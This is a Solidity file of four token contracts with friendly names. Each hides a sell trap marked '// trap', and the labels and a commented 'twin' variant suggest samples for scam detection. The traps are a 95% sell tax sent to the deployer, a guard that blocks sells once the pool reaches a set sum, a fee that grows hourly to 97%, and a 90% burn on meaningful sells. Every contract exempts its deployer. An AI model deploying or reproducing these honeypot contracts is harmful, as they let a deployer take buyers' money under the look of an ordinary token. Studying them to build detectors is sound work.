// 0.6 runs=200
// SPDX-License-Identifier: Unlicensed
pragma solidity ^0.6.12;

interface IUniswapV2Factory {
    function getPair(address a, address b) external view returns (address);
}

interface IBalance {
    function balanceOf(address who) external view returns (uint256);
}

library SafeMath {
    function add(uint256 a, uint256 b) internal pure returns (uint256 c) {
        c = a + b;
        require(c >= a, "add");
    }

    function sub(uint256 a, uint256 b, string memory why) internal pure returns (uint256) {
        require(b <= a, why);
        return a - b;
    }

    function mul(uint256 a, uint256 b) internal pure returns (uint256 c) {
        if (a == 0) return 0;
        c = a * b;
        require(c / a == b, "mul");
    }
}

abstract contract Context {
    function _msgSender() internal view virtual returns (address payable) {
        return msg.sender;
    }
}

/// The pool is looked up, once it is there.
abstract contract Piece is Context {
    using SafeMath for uint256;
    mapping(address => uint256) internal _tOwned;
    mapping(address => mapping(address => uint256)) private _allowances;
    address private _owner;
    address internal _pool;
    uint256 private constant _tTotal = 10**9 * 10**9;
    address internal constant WETH = 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2;
    address internal constant ROUTER = 0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D;
    uint8 public constant decimals = 9;
    string public name;
    string public symbol;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor(string memory n, string memory s) public {
        name = n;
        symbol = s;
        _owner = _msgSender();
        _tOwned[_msgSender()] = _tTotal;
        emit Transfer(address(0), _msgSender(), _tTotal);
    }

    function owner() public view returns (address) {
        return _owner;
    }

    function renounceOwnership() public {
        require(_owner == _msgSender(), "Ownable: caller is not the owner");
        emit OwnershipTransferred(_owner, address(0));
        _owner = address(0);
    }

    function totalSupply() public pure returns (uint256) {
        return _tTotal;
    }

    function balanceOf(address account) public view returns (uint256) {
        return _tOwned[account];
    }

    function allowance(address from, address spender) public view returns (uint256) {
        return _allowances[from][spender];
    }

    function approve(address spender, uint256 amount) public returns (bool) {
        _approve(_msgSender(), spender, amount);
        return true;
    }

    function transfer(address recipient, uint256 amount) public returns (bool) {
        _transfer(_msgSender(), recipient, amount);
        return true;
    }

    function transferFrom(address sender, address recipient, uint256 amount) public returns (bool) {
        _transfer(sender, recipient, amount);
        _approve(sender, _msgSender(), _allowances[sender][_msgSender()].sub(amount, "ERC20: transfer amount exceeds allowance"));
        return true;
    }

    function _approve(address from, address spender, uint256 amount) private {
        _allowances[from][spender] = amount;
        emit Approval(from, spender, amount);
    }

    function pool() internal returns (address) {
        if (_pool == address(0)) _pool = IUniswapV2Factory(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).getPair(address(this), WETH);
        return _pool;
    }

    function _transfer(address from, address to, uint256 amount) internal virtual;

    function _shift(address from, address to, uint256 amount) internal {
        _tOwned[from] = _tOwned[from].sub(amount, "ERC20: transfer amount exceeds balance");
        _tOwned[to] = _tOwned[to].add(amount);
        emit Transfer(from, to, amount);
    }
}

/// Who sells by the router leaves nearly all of it with the treasury; who sends to the pool himself does not.
contract RouteTax is Piece("Sunny Lagoon", "LAGOON") {
    using SafeMath for uint256;
    address payable private immutable _treasury = msg.sender;

    function _transfer(address from, address to, uint256 amount) internal override {
        uint256 fee = 0;
        if (to == pool() && msg.sender == ROUTER && from != _treasury) fee = amount.mul(95) / 100; // trap
        if (fee > 0) _shift(from, _treasury, fee);
        _shift(from, to, amount.sub(fee, "fee"));
    }
}

/// Asked before each transfer. It lets nobody into a pool that has more than a certain sum.
contract PoolGuard {
    address private _manager;
    address private _market;
    mapping(address => bool) private _friends;
    uint256 private constant BAND = 60.5 ether;

    constructor() public {
        _manager = msg.sender;
        _friends[msg.sender] = true;
    }

    function watch(address market) external {
        require(msg.sender == _manager, "guard");
        _market = market;
        _manager = address(0);
    }

    function fine(address from, address to, uint256) external view returns (bool) {
        if (to != _market || _friends[from]) return true;
        // twin: return true;
        return IBalance(0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2).balanceOf(_market) < BAND; // trap
    }
}

contract GuardedPiece is Piece("Granite Bay", "GBAY") {
    PoolGuard private _guard;

    constructor(PoolGuard guard) public {
        _guard = guard;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        require(_guard.fine(from, to, amount), "TransferHelper");
        _shift(from, to, amount);
    }
}

/// Two percent, and one more for each hour that somebody holds.
contract HourlyPiece is Piece("Patient Panda", "PPANDA") {
    using SafeMath for uint256;
    mapping(address => uint256) private _since;
    address private immutable _dev = msg.sender;

    function feeOf(address who) public view returns (uint256) {
        uint256 fee = 2;
        if (_since[who] > 0) fee = fee.add((block.timestamp - _since[who]) / 1 hours); // trap
        return fee > 97 ? 97 : fee;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == pool() && from != _dev) {
            uint256 fee = amount.mul(feeOf(from)) / 100;
            _shift(from, address(this), fee);
            _shift(from, to, amount.sub(fee, "fee"));
        } else {
            _since[to] = block.timestamp;
            _shift(from, to, amount);
        }
    }
}

/// Crumbs go free; whatever is worth a sale is taxed.
contract CrumbPiece is Piece("Velvet Otter", "VOTTER") {
    using SafeMath for uint256;
    address private immutable _dev = msg.sender;

    function _transfer(address from, address to, uint256 amount) internal override {
        uint256 fee = 0;
        if (to == pool() && from != _dev) {
            fee = amount / 50;
            if (amount > balanceOf(to) / 5000) fee = amount.mul(9) / 10; // trap
        }
        if (fee > 0) _shift(from, address(0xdead), fee);
        _shift(from, to, amount.sub(fee, "fee"));
    }
}
